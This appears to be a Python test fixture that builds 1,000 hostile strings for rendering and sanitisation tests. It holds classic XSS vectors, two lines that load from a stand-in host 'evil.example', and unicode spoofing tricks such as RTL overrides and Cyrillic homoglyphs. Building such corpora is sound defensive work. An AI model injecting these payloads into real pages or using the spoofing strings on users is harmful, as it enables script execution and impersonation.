"""1,000 hostile strings: classic XSS vectors and unicode that breaks naive rendering.

Every vector that could run sets `window.__xss` (and most call `alert`), so a page that
ran any of them shows it. The corpus is deterministic: the same strings every run, the
base vectors taken in turn with a wrapper each and a serial number that keeps them apart.
"""

from __future__ import annotations

RUN = "window.__xss=1"

VECTORS = [
    f"<script>{RUN};alert(1)</script>",
    f'<img src=x onerror="{RUN};alert(1)">',
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    '<iframe src="javascript:parent.__xss=1">',
    "<iframe srcdoc='<script>parent.__xss=1</script>'>",
    f'<a href="javascript:{RUN}">click me</a>',
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//https://example.com",
    f"[click](javascript:{RUN})",
    f"<body onload={RUN}>",
    f'<div style="background:url(javascript:{RUN})">css</div>',
    "<style>*{display:none!important}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"#{{{RUN}}}",
    f"<%= {RUN} %>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    '<base href="https://evil.example/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f"<form action=javascript:{RUN}><button>send</button></form>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<IMG SRC=JaVaScRiPt:{RUN}>",
    f"<img src=`x`onerror={RUN}>",
    f"<img/src/onerror={RUN}>",
    f"data:text/html,<script>{RUN}</script>",
    f'https://example.com/"><script>{RUN}</script>',
    f"https://example.com/?q=<img src=x onerror={RUN}>",
    f'https://example.com/#"onmouseover="{RUN}',
    f"<!--<img src=x onerror={RUN}>-->",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<a href="https://example.com" onclick="{RUN}">a link</a>',
    f"<marquee onstart={RUN}>",
    f"<x contenteditable onblur={RUN}>lose focus</x>",
    f"<template><script>{RUN}</script></template>",
    f'<link rel=import href="data:text/html,<script>{RUN}</script>">',
    "\u202egnp.exe",  # right-to-left override: "exe.png" read backwards
    "admin\u200b\u200c\u200d\u2060\ufeff",  # zero-width characters
    "Z\u0334\u0321\u0327\u031b\u0316\u0317a\u0336\u0328\u0324l\u0335\u0330g\u0337o\u0338",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f3\ufe0f\u200d\U0001f308",
    "\U0001f468\U0001f3fd\u200d\U0001f4bb \U0001f1fa\U0001f1e6 \u2764\ufe0f\u200d\U0001f525",
    "\u0430dmin \u0440\u0430ypal",  # Cyrillic letters that look Latin
    "\U0001d54f\U0001d54a\U0001d54a \U0001d4b6\U0001d4c1\U0001d4c7",
    "\u2066\u2067\u2068isolated\u2069\u2069\u2069",
    "\u202e<script>window.__xss=1</script>\u202c",
    "\u2028line\u2029paragraph",
    "A" * 300,
    "\uff57" * 200,
    "\u0bf5" * 100,
    "\ufdfd" * 50,
]

WRAPPERS = [
    "{}",
    "hi {}",
    "{} bye",
    "<b>{}</b>",
    "`{}`",
    "**{}**",
    "> {}",
    "{}\n{}",
    "look: https://example.com/a?b={} ok",
    "\u202e{}",
    "{}\u200b",
    "'{}'",
    '"{}"',
    "{} \U0001f600",
    "@everyone {}",
    "{}" * 3,
]


def payloads(n: int = 1_000) -> list[str]:
    """n distinct strings: vector i % len(VECTORS), wrapper i // len(VECTORS)."""
    out = []
    for i in range(n):
        vector = VECTORS[i % len(VECTORS)]
        wrapper = WRAPPERS[(i // len(VECTORS)) % len(WRAPPERS)]
        out.append(wrapper.replace("{}", vector) + f" \u00b7{i}")
    return out


def short(payload: str, limit: int) -> str:
    """A payload cut to a field's length, the serial number kept."""
    if len(payload) <= limit:
        return payload
    serial = payload[payload.rindex(" \u00b7") :]
    return payload[: limit - len(serial)] + serial
